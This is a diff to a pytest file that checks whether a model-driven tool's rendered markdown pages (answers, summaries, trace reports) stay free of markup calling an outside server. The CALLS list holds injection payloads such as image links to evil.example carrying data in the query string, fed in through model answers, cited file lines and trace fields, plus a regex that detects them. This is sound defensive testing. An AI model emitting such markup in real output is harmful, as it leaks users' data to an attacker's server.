@@ -1,10 +1,14 @@
-"""A model's answer holds markup that makes whoever shows answer.md call a stranger's server."""
+"""Answers, traces and names of files hold markup that makes whoever shows a run's pages call a stranger's server."""
 
 from __future__ import annotations
 
+import json
 import re
 
+import pytest
 from victim import Victim
+
+from engines.trace_cases import TRACE, failed_trace
 
 CALLS = [
     "![x](https&colon;//evil.example/p.png?d=1)",
@@ -22,16 +26,47 @@ CALLS = [
 ]
 
 
+def calls_nobody(page: str) -> bool:
+    """No picture, no tag but a break and no definition, as the text stands; tests/core renders such pages."""
+    return not re.search(
+        r"(?<!\\)!\[[^\]]*\](\(|\[)|<(?!br>)[a-z/!?]|^ {0,3}\[[^\]]*\]:|\]\((?!#)", page, re.IGNORECASE | re.MULTILINE
+    )
+
+
 def test_an_answer_calls_nobody_when_it_is_shown(victim: Victim) -> None:
     victim.write("notes.txt", "the service is payments\n")
     text = "\n\n".join(CALLS) + "\n\nThe service is payments. [notes.txt:1-1]"
     model = victim.model("print(read_file('notes.txt'))", f"FINAL({text!r})")
 
-    done = victim.sonde("ask", "Which service?", "notes.txt", "--runs-dir", victim.own, "--model", model.name)
+    done = victim.call("ask", "Which service?", "notes.txt", "--runs-dir", victim.own, "--model", model.name)
 
     assert done.returncode == 0
     for name in ("answer.md", "summary.md"):
-        shown = next(victim.own.rglob(name)).read_text()
+        shown = re.sub(r"(?ms)^```\n.*?^```$", "", next(victim.own.rglob(name)).read_text())
         assert "payments" in shown
-        assert not re.search(r"!\[[^\]]*\](\(|\[)", shown), shown
-        assert not re.search(r"<\s*(img|style)", shown)
+        assert calls_nobody(shown), shown
+
+
+@pytest.mark.parametrize("text", [each for each in CALLS if "mermaid" not in each])
+def test_a_cited_line_calls_nobody_when_it_is_shown(victim: Victim, text: str) -> None:
+    victim.write("notes.txt", text.replace("\n", " ") + " payments\n")
+    model = victim.model("print(read_file('notes.txt'))", "FINAL('It is payments. [notes.txt:1-1]')")
+
+    done = victim.call("ask", "Which service?", "notes.txt", "--runs-dir", victim.own, "--model", model.name)
+
+    assert done.returncode == 0
+    assert calls_nobody(next(victim.own.rglob("summary.md")).read_text())
+
+
+@pytest.mark.parametrize("command", ["rca", "comply"])
+def test_the_report_on_a_trace_calls_nobody_when_it_is_shown(victim: Victim, command: str) -> None:
+    rows = failed_trace()
+    rows[-1]["status_message"] = "timeout " + " ".join(CALLS)
+    rows[-1]["attributes"] |= {"tool.name": CALLS[0], "output.value": "\n\n".join(CALLS)}
+    victim.write("traces.jsonl", "".join(json.dumps(row) + "\n" for row in rows))
+
+    done = victim.call(command, TRACE, "--source", "traces.jsonl", "--runs-dir", victim.own)
+
+    assert done.returncode == 0, done.stderr
+    for name in ("report.md", "summary.md", "annotations.jsonl"):
+        assert calls_nobody(next(victim.own.rglob(name)).read_text()), name
